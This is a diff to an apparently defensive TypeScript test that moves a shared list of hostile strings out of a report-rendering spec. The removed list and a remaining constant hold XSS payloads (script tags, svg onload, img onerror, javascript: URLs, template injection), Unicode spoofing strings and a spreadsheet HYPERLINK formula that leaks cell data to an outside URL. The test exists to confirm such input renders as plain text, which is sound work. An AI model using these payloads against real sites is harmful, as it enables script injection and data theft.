@@ -31,6 +31,7 @@ import { REPORT_CONTENT_SECURITY_POLICY } from '../../shared/report';
 import type { ClaimReviewDocument } from '../../shared/report/claimReview';
 import type { WebAnnotationCollection, WebAnnotationTextualBody } from '../../shared/report/webAnnotation';
 import { assertValidCorpus, assertValidReport } from '../support/reportSchema';
+import { HOSTILE } from './support/xssPayloads';
 
 // Hostile strings through every report format, from a real import to a real browser: markup that
 // would break out of text, attributes, <style> or <script>, script and data URLs, template syntax,
@@ -38,26 +39,8 @@ import { assertValidCorpus, assertValidReport } from '../support/reportSchema';
 // in as a title, a tag label, an attribute, a comment, an author or quoted article text, and must
 // come out as exactly that text, never as markup, a link, a request or a script.
 
-/** The hostile corpus. Every string is used as a comment body, a speaker, a role, a cue and a tag label. */
-const HOSTILE = [
-  '<script>window.__pwned = 1</script>',
-  '"><svg onload="window.__pwned=1">',
-  '</script><script>window.__pwned=1</script>',
-  '<img src=x onerror="window.__pwned=1">',
-  'javascript:window.__pwned=1',
-  '</style><script>window.__pwned=1</script>',
-  '<!--',
-  ']]>',
-  "{{constructor.constructor('window.__pwned=1')()}}",
-  'a line\u2028separator and a paragraph\u2029separator',
-  'right-to-left \u202Eoverride: gpj.exe and what follows',
-  'family 👩\u200D👩\u200D👧\u200D👦 joined by zero-width joiners',
-  '&amp;',
-  '&lt;',
-  '=HYPERLINK("https://example.org/?leak="&A1,"click")',
-  "'+1 already starts with an apostrophe",
-  'first line\nsecond line\n\n    indented after a blank line',
-] as const;
+// Every string of HOSTILE (shared with hostileContent.spec.ts) is used as a comment body, a speaker,
+// a role, a cue and a tag label.
 
 /** A 10,000-character comment, itself made of markup, so a report that cuts or parses it shows. */
 const LONG_COMMENT = '<b>bold?</b> <script>window.__pwned=1</script> &amp;\u2028 '
